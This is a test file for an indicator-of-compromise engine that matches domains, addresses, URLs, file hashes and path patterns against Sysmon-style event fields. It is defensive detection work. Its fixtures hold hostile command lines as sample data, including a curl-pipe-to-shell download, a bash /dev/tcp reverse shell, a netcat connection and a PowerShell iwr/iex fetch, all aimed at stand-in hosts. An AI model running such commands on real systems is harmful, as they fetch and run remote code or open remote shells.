import { describe, expect, test } from "bun:test";
import fc from "fast-check";
import { type EventKind, FieldTable } from "../../event/mod.ts";
import { IndicatorBuilder } from "./builder.ts";
import { IocEngine } from "./engine.ts";
import { buildIntervals, findNetwork } from "./intervals.ts";
import { hitsPerEventMax } from "./limits.ts";
import { readIndicatorFile } from "./read-file.ts";
import { engineOf, eventOf } from "./test-kit.ts";

describe("domains", () => {
  const { find } = engineOf({
    "domains.txt": "evil.example\n.bad.example\n*.star.example ; wild\nBücher.example\nxn--80ak6aa92e.com\n",
  });
  const query = (name: string): string[] => find({ QueryName: name }).map((line) => line.split(" = ")[1]!);

  test("of very many in one event a bounded number is told", () => {
    const names = Array.from({ length: 100 }, (_, n) => `n${n}.example`);
    const many = engineOf({ "domains.txt": names.join("\n") });
    expect(many.find({ CommandLine: names.join(" ") })).toHaveLength(hitsPerEventMax);
  });

  test("a plain name matches itself alone, in any case and with a dot at its end", () => {
    expect(query("evil.example")).toEqual(["domain evil.example"]);
    expect(query("EVIL.Example.")).toEqual(["domain evil.example"]);
    expect(query("www.evil.example")).toEqual([]);
    expect(query("notevil.example")).toEqual([]);
    expect(query("example")).toEqual([]);
  });

  test("a name with a leading dot matches itself and all below it", () => {
    expect(query("bad.example")).toEqual(["domain .bad.example"]);
    expect(query("a.b.BAD.example")).toEqual(["domain .bad.example"]);
    expect(query("xbad.example")).toEqual([]);
  });

  test("a name with a leading star matches what is below it alone", () => {
    expect(query("star.example")).toEqual([]);
    expect(query("a.star.example")).toEqual(["domain *.star.example"]);
  });

  test("names in other scripts and their ASCII form are one", () => {
    expect(query("bücher.example")).toEqual(["domain xn--bcher-kva.example"]);
    expect(query("xn--bcher-kva.example")).toEqual(["domain xn--bcher-kva.example"]);
    expect(query("аррӏе.com")).toEqual(["domain xn--80ak6aa92e.com"]);
  });
});

describe("addresses", () => {
  const { find } = engineOf({
    "ips.txt": [
      "192.0.2.1",
      "198.51.100.0/24",
      "198.51.100.128/25",
      "203.0.113.7:4444",
      "2001:db8::/32",
      "2001:DB8:0:0::5",
      "[2001:db8::9]:8443",
      "10.0.0.9/8",
    ].join("\n"),
  });
  const to = (address: string, port = 0): string[] =>
    find({ DestinationIp: address, DestinationPort: port }).map((line) => line.split(" = ")[1]!);

  test("single addresses, however they are written", () => {
    expect(to("192.0.2.1")).toEqual(["ip 192.0.2.1"]);
    expect(to("192.0.2.10")).toEqual([]);
    expect(to("::ffff:192.0.2.1")).toEqual(["ip 192.0.2.1"]);
    expect(to("2001:0db8:0000::0005")).toEqual(["ip 2001:db8::5", "ip 2001:db8::/32"]);
  });

  test("of networks within each other the narrowest", () => {
    expect(to("198.51.100.1")).toEqual(["ip 198.51.100.0/24"]);
    expect(to("198.51.100.127")).toEqual(["ip 198.51.100.0/24"]);
    expect(to("198.51.100.128")).toEqual(["ip 198.51.100.128/25"]);
    expect(to("198.51.100.255")).toEqual(["ip 198.51.100.128/25"]);
    expect(to("198.51.101.0")).toEqual([]);
    expect(to("10.255.255.255")).toEqual(["ip 10.0.0.0/8"]);
    expect(to("11.0.0.0")).toEqual([]);
  });

  test("an address with a port matches that port alone", () => {
    expect(to("203.0.113.7", 4444)).toEqual(["ip 203.0.113.7:4444"]);
    expect(to("203.0.113.7", 443)).toEqual([]);
    expect(to("2001:db8::9", 8443)).toEqual(["ip [2001:db8::9]:8443", "ip 2001:db8::/32"]);
  });

  test("intervals answer what looking at every network answers", () => {
    const network = fc.record({ base: fc.integer({ min: 0, max: 255 }), prefix: fc.integer({ min: 24, max: 32 }) });
    fc.assert(
      fc.property(
        fc.uniqueArray(network, { maxLength: 24, selector: (n) => `${n.base >> (32 - n.prefix)}/${n.prefix}` }),
        (list) => {
          const networks = list.map(({ base, prefix }, entry) => {
            const size = 2 ** (32 - prefix);
            const first = 0xffff_ff00 + Math.floor(base / size) * size;
            return { first: Uint32Array.of(first), last: Uint32Array.of(first + size - 1), entry, size };
          });
          const index = buildIntervals(1, networks);
          for (let address = 0xffff_fe00; address <= 0xffff_ffff; address += 1) {
            const holding = networks.filter(({ first, last }) => first[0]! <= address && address <= last[0]!);
            const narrowest = holding.sort((a, b) => a.size - b.size)[0];
            expect(findNetwork(index, Uint32Array.of(address))).toBe(narrowest?.entry ?? -1);
          }
        },
      ),
      { numRuns: 40 },
    );
  });
});

describe("URLs", () => {
  const { find } = engineOf({
    "urls.txt":
      "hxxps://evil[.]example/kit/login.php\nhttp://evil.example:8080/a?b=C\nevil.example/tool*\nhttp://192.0.2.5/x\n",
  });
  const line = (text: string): string[] => find({ CommandLine: text }).map((hit) => hit.split(" = ")[1]!);

  test("are found in command lines, whatever the scheme, the case of the host and the port of the scheme", () => {
    expect(line("curl -s 'https://EVIL.example:443/kit/login.php' | sh")).toEqual(["url evil.example/kit/login.php"]);
    expect(line("wget ftp://evil.example/kit/login.php.")).toEqual(["url evil.example/kit/login.php"]);
    expect(line("wget https://evil.example/kit/login.php?id=1#x")).toEqual(["url evil.example/kit/login.php"]);
    expect(line("wget https://evil.example/KIT/login.php")).toEqual([]);
    expect(line("curl http://evil.example:8080/a?b=C")).toEqual(["url evil.example:8080/a?b=C"]);
    expect(line("curl http://user:pw@192.0.2.5/x")).toEqual(["url 192.0.2.5/x"]);
  });

  test("with a star at the end match all that begins so", () => {
    expect(line("curl http://evil.example/tools/a.sh")).toEqual(["url evil.example/tool"]);
    expect(line("curl http://evil.example/too")).toEqual([]);
  });
});

describe("observables in text", () => {
  const { find, engine } = engineOf({
    "domains.txt": ".evil.example\nother.example",
    "ips.txt": "192.0.2.1\n2001:db8::5\n203.0.113.7:53",
  });

  test("names and addresses are found wherever a command line mentions them, once each", () => {
    expect(find({ CommandLine: "ssh root@www.evil.example -p 22 www.evil.example" })).toEqual([
      "CommandLine www.evil.example = domain .evil.example",
    ]);
    expect(find({ CommandLine: "bash -i >& /dev/tcp/192.0.2.1/443 0>&1" })).toEqual([
      "CommandLine 192.0.2.1 = ip 192.0.2.1",
    ]);
    expect(find({ CommandLine: "nc [2001:DB8::5] 4444" })).toEqual(["CommandLine 2001:DB8::5 = ip 2001:db8::5"]);
    expect(find({ CommandLine: "dig @203.0.113.7:53 x" })).toEqual(["CommandLine 203.0.113.7:53 = ip 203.0.113.7:53"]);
    expect(find({ ScriptBlockText: "iwr other.example;iex" })).toEqual([
      "ScriptBlockText other.example = domain other.example",
    ]);
    expect(find({ CommandLine: "std::vector a.b c:\\x.y ::: ... http:// -.- 1.2.3" })).toEqual([]);
  });

  test("what a long text holds at either end is found, and the cut is counted", () => {
    const before = engine.stats.cut;
    const long = "x ".repeat(40_000);
    expect(find({ CommandLine: `other.example ${long} 192.0.2.1` }).length).toBe(2);
    expect(engine.stats.cut).toBe(before + 1);
  });

  test("a text full of names is searched in part, and that is counted", () => {
    const before = engine.stats.cut;
    expect(find({ CommandLine: `${"a.b ".repeat(1_000)} other.example` })).toEqual([]);
    expect(engine.stats.cut).toBe(before + 1);
  });

  test("no text makes it throw", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 200 }), fc.string({ maxLength: 200 }), (a, b) => {
        find({ CommandLine: a + b, QueryName: a, DestinationIp: b, Hashes: b });
      }),
      { numRuns: 300 },
    );
  });
});

test("the process that acts is looked up when it starts, not with each thing that it does", () => {
  const slots = new FieldTable();
  const builder = new IndicatorBuilder();
  readIndicatorFile(builder, { path: "domains.txt", bytes: Buffer.from("a.example\nb.example") }, { level: "high" }, 0);
  const engine = new IocEngine(builder.finish(), slots);
  const found = (kind: EventKind): string[] => {
    const fields = { CommandLine: "curl a.example", QueryName: "b.example" };
    const values: string[] = [];
    engine.match({ ...eventOf(fields, slots), kind }, ({ indicator }) => values.push(indicator.value));
    return values;
  };
  expect(found("process_start")).toEqual(["a.example", "b.example"]);
  expect(found("dns_query")).toEqual(["b.example"]);
  expect(found("process_end")).toEqual([]);
});

describe("digests", () => {
  const md5 = "44d88612fea8a8f36de82e1278abb02f";
  const sha256 = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f";
  const { engine, find } = engineOf({ "hashes.txt": `${md5};a test file\n${sha256.toUpperCase()}\nimphash:${md5}` });

  test("are found in Sysmon's list, and alone", () => {
    expect(find({ Hashes: `SHA1=00,MD5=${md5.toUpperCase()},SHA256=${sha256}` })).toEqual([
      `Hashes ${md5.toUpperCase()} = md5 ${md5}`,
      `Hashes ${sha256} = sha256 ${sha256}`,
    ]);
    expect(find({ Hashes: `IMPHASH=${md5}` })).toEqual([`Hashes ${md5} = imphash ${md5}`]);
    expect(find({ Hashes: sha256 })).toEqual([`Hashes ${sha256} = sha256 ${sha256}`]);
  });

  test("of files that were hashed are answered with what the list says", () => {
    expect(engine.digest("md5", md5, 0)?.description).toBe("a test file");
    expect(engine.digest("sha1", md5, 0)).toBeUndefined();
    expect(engine.digest("md5", "zz".repeat(16), 0)).toBeUndefined();
  });
});

describe("paths", () => {
  const { find, reports } = engineOf({
    "paths_regex.txt": "(?i)\\\\temp\\\\[a-z]{4}\\.exe$ ; dropper\n^/dev/shm/\\.[^/]+$\n(?=x)y\n/var/;tmp/x\n",
  });

  test("are expressions over executables, loaded libraries and files", () => {
    expect(find({ Image: "C:\\Temp\\abcd.EXE" }).length).toBe(1);
    expect(find({ TargetFilename: "/dev/shm/.x", Image: "/bin/sh" })).toEqual([
      "TargetFilename /dev/shm/.x = path ^/dev/shm/\\.[^/]+$",
    ]);
    expect(find({ Image: "/dev/shm/x" })).toEqual([]);
    expect(find({ Image: "/var/;tmp/x" }).length).toBe(1);
  });

  test("one that does not run in linear time is refused with its line", () => {
    expect(reports[0]!.diagnostics).toMatchObject([{ line: 3, code: "bad_regex", severity: "error" }]);
    expect(reports[0]!.taken).toBe(3);
  });
});
